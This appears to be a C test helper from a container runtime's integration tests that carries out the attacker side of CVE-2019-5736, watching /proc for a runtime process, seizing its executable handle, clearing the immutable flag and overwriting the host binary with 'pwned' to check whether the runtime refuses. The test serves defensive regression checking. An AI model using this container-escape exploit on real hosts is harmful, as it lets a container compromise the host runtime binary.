/*
 * CVE-2019-5736, the attacker's side, run inside a task by the integration
 * tests (built static at test time: it runs in any root).
 *
 * It waits for a process of its pid namespace started as "/proc/self/exe"
 * (what a planted `#!/proc/self/exe` script makes the kernel run when an
 * operator execs it: the runtime's own binary), stops it, opens its exe,
 * kills it and, once nothing runs that binary any more, opens the handle
 * for writing and writes over the start of the file (first clearing its
 * immutable flag, which a task holding CAP_LINUX_IMMUTABLE can). It also
 * tries to open
 * the exe of every other new process, which must be refused while a
 * runtime process has not exec'd yet (it is not dumpable).
 *
 * usage: exe_watch RESULT_FILE
 * RESULT_FILE.caught appears once it holds the handle; RESULT_FILE then
 * gets one line: "wrote ..." (the attack worked) or "refused ..." (it did
 * not). Lines about early handles go to RESULT_FILE.early.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <sys/ioctl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static void say(const char *file, const char *fmt, const char *what, int err)
{
	char tmp[4096];
	snprintf(tmp, sizeof tmp, "%s.tmp", file);
	FILE *f = fopen(tmp, "w");
	if (!f)
		return;
	fprintf(f, fmt, what, strerror(err));
	fclose(f);
	rename(tmp, file);
}

/* 1: started as "/proc/self/exe"; 0: as anything else; -1: not known yet.
 * A process in the middle of an execve has its new exe, is dumpable
 * again, and has no command line until the kernel has laid out its new
 * stack: it is looked at again on the next pass, not taken for a runtime
 * process that has not exec'd (whose command line is its parent's). */
static int started_as_exe(int pid)
{
	char path[64], buf[64];
	snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	ssize_t n = read(fd, buf, sizeof buf - 1);
	close(fd);
	if (n <= 0)
		return -1;
	buf[n] = 0;
	return strcmp(buf, "/proc/self/exe") == 0;
}

static void sleep_ms(long ms)
{
	struct timespec t = { ms / 1000, (ms % 1000) * 1000000L };
	nanosleep(&t, NULL);
}

int main(int argc, char **argv)
{
	if (argc != 2)
		return 2;
	const char *result = argv[1];
	char early[4096];
	snprintf(early, sizeof early, "%s.early", result);
	static unsigned char seen[1 << 22];
	int self = getpid();

	for (;;) {
		DIR *d = opendir("/proc");
		if (!d)
			return 1;
		struct dirent *e;
		while ((e = readdir(d))) {
			int pid = atoi(e->d_name);
			if (pid <= 1 || pid == self || pid >= (1 << 22))
				continue;
			int as_exe = started_as_exe(pid);
			if (as_exe < 0)
				continue;
			if (!as_exe) {
				if (seen[pid])
					continue;
				seen[pid] = 1;
				/* A process being set up by the runtime: its exe is the
				 * runtime's binary until it execs; it must not open. */
				char path[64];
				snprintf(path, sizeof path, "/proc/%d/exe", pid);
				int fd = open(path, O_RDONLY | O_CLOEXEC);
				if (fd >= 0) {
					char link[4096] = "";
					ssize_t n = readlink(path, link, sizeof link - 1);
					if (n > 0)
						link[n] = 0;
					close(fd);
					FILE *f = fopen(early, "a");
					if (f) {
						fprintf(f, "opened %s\n", link);
						fclose(f);
					}
				}
				continue;
			}
			kill(pid, SIGSTOP);
			char path[64], link[4096] = "";
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			int fd = open(path, O_RDONLY | O_CLOEXEC);
			if (fd < 0) {
				say(result, "refused %s: open: %s\n", path, errno);
				kill(pid, SIGKILL);
				return 0;
			}
			ssize_t n = readlink(path, link, sizeof link - 1);
			if (n > 0)
				link[n] = 0;
			kill(pid, SIGKILL);
			char caught[4096];
			snprintf(caught, sizeof caught, "%s.caught", result);
			say(caught, "%s%s\n", link, 0);
			/* Writable once no process runs it (the CLI at once, a shim
			 * once it is gone, isoexecd after a restart): retry for 60 s. */
			/* An immutable binary: clear the flag, as a task holding
			 * CAP_LINUX_IMMUTABLE may (refused without it). */
			long flags = 0;
			if (ioctl(fd, FS_IOC_GETFLAGS, &flags) == 0 && (flags & FS_IMMUTABLE_FL)) {
				flags &= ~FS_IMMUTABLE_FL;
				ioctl(fd, FS_IOC_SETFLAGS, &flags);
			}
			char again[64];
			snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
			int err = 0;
			for (int i = 0; i < 3000; i++) {
				int w = open(again, O_WRONLY | O_CLOEXEC);
				if (w >= 0) {
					ssize_t k = write(w, "pwned", 5);
					err = errno;
					close(w);
					if (k == 5) {
						say(result, "wrote %s (%s)\n", link, 0);
						return 0;
					}
					break;
				}
				err = errno;
				if (err != ETXTBSY)
					break;
				sleep_ms(20);
			}
			say(result, "refused %s: %s\n", link, err);
			return 0;
		}
		closedir(d);
	}
}
